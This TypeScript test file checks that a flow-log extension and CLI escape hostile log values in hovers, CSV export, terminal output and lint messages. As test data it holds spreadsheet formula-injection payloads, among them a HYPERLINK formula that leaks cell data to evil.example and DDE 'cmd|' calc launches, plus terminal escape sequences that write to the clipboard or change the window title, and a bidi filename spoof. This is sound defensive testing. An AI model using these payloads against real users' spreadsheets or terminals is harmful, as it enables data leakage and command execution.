// Issue 10, injection through log values (items 14–18): the hostile fixture set through hover, diagnostics, the
// query table/CSV/JSON formats and lint's lines; CSV formulas; terminal escapes; the export's same-file check.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FlowLogDocument } from '../../server/src/core/document';
import { hoverAt } from '../../server/src/handlers/hover';
import { diagnosticsOf } from '../../server/src/handlers/diagnostics';
import { DEFAULT_SETTINGS } from '../../server/src/protocol';
import { markdownCode, markdownText } from '../../server/src/core/markdown';
import { terminalJson, terminalText } from '../../server/src/core/terminalText';
import { csvCell, toCsv } from '../../server/src/core/query/csv';
import { QueryResult, runQuery } from '../../server/src/core/query';
import { runQueryCommand, toTable } from '../../server/src/cli/query';
import { LintProblem, problemJson, problemLine } from '../../server/src/cli/lint';
import { lintFile } from '../../server/src/core/lint/lintFile';
import { formatResult } from '../../client/src/panels/exportFormat';
import { isSameFile } from '../../client/src/panels/sameFile';
import { labelText } from '../../client/src/query/labelText';
import { HOSTILE, HOSTILE_FIXTURE, HOSTILE_RECORDS, HOSTILE_TEXT } from '../support/hostile';

// A CommonMark renderer (markdown-it, which the packaging tool brings) with raw HTML on: the worst case. VS Code
// renders hovers with marked (CommonMark + GFM autolinks); the GFM autolinks are checked on the source below.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownIt = require('markdown-it');
const md = new MarkdownIt({ html: true, linkify: false });
const render = (markdown: string): string => md.render(markdown);
/** The text a rendering shows (tags removed, entities decoded). */
const shownText = (html: string): string => html.replace(/<[^>]*>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');

/** Controls a terminal obeys: C0 (all of them), DEL, C1, bidi embeddings, overrides, isolates and marks. */
const TERMINAL_CONTROL = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const TERMINAL_CONTROL_EXCEPT_NEWLINE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** Every hover of a document: each field of each line, and the end of each line (the reading alone). */
function allHovers(doc: FlowLogDocument): string[] {
  const out: string[] = [];
  for (let line = 0; line < doc.lineCount; line++) {
    const text = doc.lineText(line);
    const points = [0, text.length];
    for (let i = 0; i < text.length; i++) if (text[i] === ' ') points.push(i + 1);
    for (const character of points) {
      const h = hoverAt(doc, { textDocument: { uri: 'file:///h.flowlog' }, position: { line, character } }, DEFAULT_SETTINGS);
      if (h) out.push((h.contents as { value: string }).value);
    }
  }
  return out;
}

/** Outside code spans, the text a GFM autolink would start from: a scheme, www., an address with @. */
function gfmAutolinkStarts(markdown: string): string[] {
  const outsideCode = markdown.replace(/(`+)[\s\S]*?\1/g, '');
  return outsideCode.match(/(https?|ftp):\/\/|www\.|[\w.+-]+@[\w-]+\.\w/gi) ?? [];
}

describe('the hostile fixture set', () => {
  it('test/fixtures/workspace/hostile.flowlog is the one test/support/hostile.ts describes', () => {
    assert.equal(readFileSync(HOSTILE_FIXTURE, 'utf8'), HOSTILE_TEXT);
  });

  it('its valid records are valid, its invalid ones are flagged, and every payload sits in a record', () => {
    const doc = new FlowLogDocument(HOSTILE_TEXT);
    const flagged = new Set(diagnosticsOf(doc).filter((d) => d.severity === 1).map((d) => d.range.start.line));
    HOSTILE_RECORDS.forEach((r, i) => assert.equal(flagged.has(i + 1), !r.valid, `line ${i + 2}: ${r.why}`));
    for (const [name, value] of Object.entries(HOSTILE)) assert.ok(HOSTILE_TEXT.includes(value), name);
  });
});

describe('item 15: hovers never render Markdown from a value', () => {
  it('item 15: hover never renders markdown from a field value (no image, link or HTML; the value shown as text)', () => {
    const doc = new FlowLogDocument(HOSTILE_TEXT);
    const hovers = allHovers(doc);
    assert.ok(hovers.length > 100);
    for (const h of hovers) {
      const html = render(h);
      assert.doesNotMatch(html, /<(img|a|script|svg|iframe|b)\b/i, `hover ${JSON.stringify(h.slice(0, 300))} rendered ${html.slice(0, 300)}`);
      assert.deepEqual(gfmAutolinkStarts(h), [], h.slice(0, 300));
      assert.doesNotMatch(h, TERMINAL_CONTROL_EXCEPT_NEWLINE, 'control characters are shown as escapes');
    }
    // Each payload of a field shows as its own text (controls as escapes), from the hover of that field.
    const shown = hovers.map((h) => shownText(render(h))).join('\n');
    for (const value of [HOSTILE.markdownImage, HOSTILE.markdownLink, HOSTILE.autolink, HOSTILE.backticks, HOSTILE.html, HOSTILE.script, HOSTILE.svg, HOSTILE.template, HOSTILE.formulaHyperlink]) {
      assert.ok(shown.includes(value), `${value} shown as text`);
    }
    assert.ok(shown.includes('\\x1b]52;c;ZWNobyBwd25lZA==\\x07'));
    assert.ok(shown.includes('vpc-\\u202egnp.exe'));
  });

  it('item 15: the record reading (hovered on any field) shows an invalid address as text, not an image', () => {
    const doc = new FlowLogDocument(HOSTILE_TEXT);
    const line = HOSTILE_RECORDS.findIndex((r) => r.line.includes(` ${HOSTILE.markdownImage} ${HOSTILE.rtlAddress} `)) + 1;
    const h = hoverAt(doc, { textDocument: { uri: 'file:///h.flowlog' }, position: { line, character: 1 } }, DEFAULT_SETTINGS)!;
    const html = render((h.contents as { value: string }).value);
    assert.doesNotMatch(html, /<img|<a /);
    assert.ok(shownText(html).includes(`TCP [${HOSTILE.markdownImage}]:51003 → \\u202e10.0.0.9:\\x1b[2J`), shownText(html));
  });

  it('item 15: an unknown header name is escaped too, and a 20,000-character value is cut', () => {
    const doc = new FlowLogDocument(`version account-id ![h](https://evil.example/h.png)\n2 123 x\n`);
    const h = hoverAt(doc, { textDocument: { uri: 'file:///h.flowlog' }, position: { line: 1, character: 6 } }, DEFAULT_SETTINGS)!;
    const html = render((h.contents as { value: string }).value);
    assert.doesNotMatch(html, /<img|<a /);
    assert.match(shownText(html), /!\[h\]\(https:\/\/evil\.example\/h\.png\) \(unknown field name\)/);
    const hostile = new FlowLogDocument(HOSTILE_TEXT);
    const line = HOSTILE_RECORDS.findIndex((r) => r.line.includes(HOSTILE.long)) + 1;
    const long = hoverAt(hostile, { textDocument: { uri: 'file:///h.flowlog' }, position: { line, character: hostile.lineText(line).length - 1 } }, DEFAULT_SETTINGS)!;
    const value = (long.contents as { value: string }).value;
    assert.ok(value.length < 2_000, `hover of ${value.length} characters`);
    assert.match(value, /L…` \(20,000 characters\)/);
  });

  it('item 15: markdownCode keeps any run of backticks inside the span; markdownText escapes every construct', () => {
    for (const v of ['a`b', '``', 'x``![q](https://e.example/q.png)``', '`lead', 'trail`', '```fence```']) {
      const html = render(markdownCode(v));
      assert.equal(html, `<p><code>${v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')}</code></p>\n`, v);
    }
    const text = '# h ![i](https://e.example/i.png) [l](https://e.example) <b>x</b> &amp; *em* _u_ ~~s~~ `c` www.e.example a@e.example $(alert)';
    const html = render(markdownText(text));
    assert.equal(shownText(html).trim(), text);
    assert.doesNotMatch(html, /<(img|a|b|em|strong|code|h1|s|del)\b/);
    assert.deepEqual(gfmAutolinkStarts(markdownText(text)), []);
  });
});

describe('item 16: CSV export leaves no spreadsheet formula live', () => {
  it('item 16: a cell that begins with = + - @ tab or CR is prefixed with a quote and quoted (OWASP)', () => {
    assert.equal(csvCell(HOSTILE.formulaHyperlink), `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    assert.equal(csvCell(HOSTILE.formulaCmd), `"'+cmd|'/Ccalc'!A0"`);
    assert.equal(csvCell(HOSTILE.formulaMinus), `"'-2+3+cmd|'/Ccalc'!A0"`);
    assert.equal(csvCell(HOSTILE.formulaAt), `"'@SUM(1+1)*cmd|'/Ccalc'!A0"`);
    assert.equal(csvCell('\t=1+2'), `"'\t=1+2"`);
    assert.equal(csvCell('\r=1+2'), `"'\r=1+2"`);
    assert.equal(csvCell('-'), `"'-"`);
  });

  it('item 16: numbers stay numbers, negative ones included; other text is RFC 4180 as before', () => {
    assert.equal(csvCell(-2), '-2');
    assert.equal(csvCell(-1.5), '-1.5');
    assert.equal(csvCell('-1'), '-1'); // text that is exactly a number cannot be a formula
    assert.equal(csvCell('+5'), '+5');
    assert.equal(csvCell('-1e3'), '-1e3');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell('a,"b"'), '"a,""b"""');
    assert.equal(csvCell('10.0.0.1'), '10.0.0.1');
    assert.equal(csvCell('x=1'), 'x=1'); // only the first character makes a formula
    assert.equal(toCsv(['n', '=c'], [[-3, '=1'], [4, 'ok']]), `n,"'=c"\n-3,"'=1"\n4,ok\n`);
  });

  it('item 16: the panel Export/Copy text (formatResult) of the hostile fixture has no live formula, and keeps the -1 counts', async () => {
    const r = await runQuery({ kind: 'text', text: HOSTILE_TEXT, name: 'hostile.flowlog' }, '*');
    const csv = formatResult('csv', r.columns, r.rows);
    const cells = parseCsv(csv);
    for (const row of cells) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r](?![\d.]*$)/, `live formula cell ${JSON.stringify(cell)}`);
    const flat = cells.flat();
    assert.ok(flat.includes(`'${HOSTILE.formulaHyperlink}`));
    assert.ok(flat.includes(`'${HOSTILE.formulaAt}`));
    assert.ok(flat.includes('-1'), 'SKIPDATA -1 counts stay readable numbers');
    // The JSON export keeps values as they are (JSON is data, not a spreadsheet).
    const json = JSON.parse(formatResult('json', r.columns, r.rows)) as Record<string, unknown>[];
    assert.ok(json.some((o) => o['vpc-id'] === HOSTILE.formulaHyperlink || o.vpc_id === HOSTILE.formulaHyperlink));
  });
});

/** RFC 4180 parsing, enough to read back what toCsv writes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  return rows;
}

describe('item 17: terminal output shows control characters escaped', () => {
  it('item 17: terminalText escapes ESC, BEL, C1 and bidi controls, and leaves other text alone', () => {
    assert.equal(terminalText(HOSTILE.title), '\\x1b]0;pwned\\x07');
    assert.equal(terminalText(HOSTILE.clipboard), '\\x1b]52;c;ZWNobyBwd25lZA==\\x07');
    assert.equal(terminalText(HOSTILE.c1), '\\x9b31mC1');
    assert.equal(terminalText(HOSTILE.bidi), 'vpc-\\u202egnp.exe');
    assert.equal(terminalText('a\tb\r\nc\x7f'), 'a\\tb\\r\\nc\\x7f');
    assert.equal(terminalText('10.0.0.1 → ✓ 東京 C:\\logs'), '10.0.0.1 → ✓ 東京 C:\\logs');
  });

  it('item 17: the query table of the hostile fixture holds no control character', async () => {
    const r = await runQuery({ kind: 'text', text: HOSTILE_TEXT, name: 'hostile.flowlog' }, '*');
    const table = toTable(r);
    assert.doesNotMatch(table, TERMINAL_CONTROL_EXCEPT_NEWLINE);
    assert.ok(table.includes('\\x1b]52;c;ZWNobyBwd25lZA==\\x07'));
    assert.ok(table.includes('\\x1b[31mRED\\x1b[0m'));
    assert.ok(table.includes('\\x9b31mC1'));
    assert.ok(table.includes('vpc-\\u202egnp.exe'));
  });

  it("item 17: lint's lines of the hostile fixture hold no control character; its JSON has the values back", async () => {
    const problems: LintProblem[] = [];
    await lintFile(HOSTILE_FIXTURE, { write: (batch) => void problems.push(...batch) });
    const lines = problems.map(problemLine).join('');
    assert.doesNotMatch(lines, TERMINAL_CONTROL_EXCEPT_NEWLINE);
    assert.ok(lines.includes('version \\x1b]0;pwned\\x07 is not a known version'));
    assert.ok(lines.includes('dstport \\x1b[2J is not an integer'));
    assert.ok(problems.some((p) => TERMINAL_CONTROL.test(p.message)), 'the fixture does reach the messages');
    for (const p of problems) {
      const json = problemJson(p);
      assert.doesNotMatch(json, TERMINAL_CONTROL);
      assert.deepEqual(JSON.parse(json), p);
    }
  });

  it('item 17: CSV shows the escapes when stdout is a terminal, and keeps its bytes into a file or a pipe', async () => {
    const csvTo = async (stdoutIsTerminal: boolean) => {
      let out = '';
      const code = await runQueryCommand([HOSTILE_FIXTURE, '* | select vpc_id, instance_id, interface_tag', '--format', 'csv'], { stdout: (t) => (out += t), stderr: () => undefined, stdoutIsTerminal });
      assert.equal(code, 0);
      return out;
    };
    const terminal = await csvTo(true);
    assert.doesNotMatch(terminal, TERMINAL_CONTROL_EXCEPT_NEWLINE);
    assert.ok(terminal.includes('\\x1b]52;c;ZWNobyBwd25lZA==\\x07'));
    assert.ok((await csvTo(false)).includes(HOSTILE.clipboard));
  });

  it('item 17: terminalJson escapes what JSON.stringify leaves raw (C1, bidi), and is the same JSON value', () => {
    const value = { v: [HOSTILE.c1, HOSTILE.bidi, HOSTILE.isolate, HOSTILE.title, '\x7f'] };
    assert.match(JSON.stringify(value), /[\u009b\u202e]/, 'JSON.stringify alone leaves them raw');
    const json = terminalJson(JSON.stringify(value));
    assert.doesNotMatch(json, TERMINAL_CONTROL);
    assert.deepEqual(JSON.parse(json), value);
  });

  it('item 17: quick pick labels show `$(icon)` and controls as text', () => {
    assert.equal(labelText('TCP $(alert) → $(x~spin)'), 'TCP \\$(alert) → \\$(x~spin)');
    assert.equal(labelText(`a${HOSTILE.bidi}`), 'avpc-\\u202egnp.exe');
  });
});

describe('item 14: output of data-sized results', () => {
  it('item 14: the table format of 130,000 rows does not overflow the call stack', () => {
    const rows = Array.from({ length: 130_000 }, (_, i) => [i, `10.0.${i >> 8 & 255}.${i & 255}`]);
    const result: QueryResult = { kind: 'search', columns: ['n', 'srcaddr'], rows, stats: { records: 130_000, matched: 130_000, malformed: 0, bytes: 0, elapsedMs: 0 } } as unknown as QueryResult;
    const table = toTable(result);
    assert.equal(table.split('\n').length, 130_000 + 5);
    assert.match(table.split('\n')[2], /^\s+0  10\.0\.0\.0$/);
  });
});

describe('item 18: Export refuses the log itself by real path', () => {
  let dir: string;
  let log: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'flowlog-samefile-'));
    mkdirSync(join(dir, 'logs'));
    log = join(dir, 'logs', 'vpc.flowlog');
    writeFileSync(log, '2 123 eni-a 10.0.0.1 10.0.0.2 1 2 6 1 40 1 2 ACCEPT OK\n');
    symlinkSync(log, join(dir, 'link.csv'));
    symlinkSync(join(dir, 'logs'), join(dir, 'logs-link'));
    linkSync(log, join(dir, 'hard.csv'));
    writeFileSync(join(dir, 'other.csv'), '');
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('item 18: a symlink, a symlinked folder, a hard link and `..` all name the log', async () => {
    assert.equal(await isSameFile(log, log), true);
    assert.equal(await isSameFile(join(dir, 'link.csv'), log), true);
    assert.equal(await isSameFile(join(dir, 'logs-link', 'vpc.flowlog'), log), true);
    assert.equal(await isSameFile(join(dir, 'hard.csv'), log), true);
    assert.equal(await isSameFile(join(dir, 'logs', '..', 'logs', 'vpc.flowlog'), log), true);
    assert.equal(await isSameFile(log, join(dir, 'link.csv')), true, 'the log opened through a link');
  });

  it('item 18: another file, or one that does not exist yet, is not the log', async () => {
    assert.equal(await isSameFile(join(dir, 'other.csv'), log), false);
    assert.equal(await isSameFile(join(dir, 'logs', 'vpc.flowlog-query.csv'), log), false);
    assert.equal(await isSameFile(join(dir, 'logs-link', 'new.csv'), log), false);
    assert.equal(await isSameFile(join(dir, 'missing', 'new.csv'), log), false);
  });
});
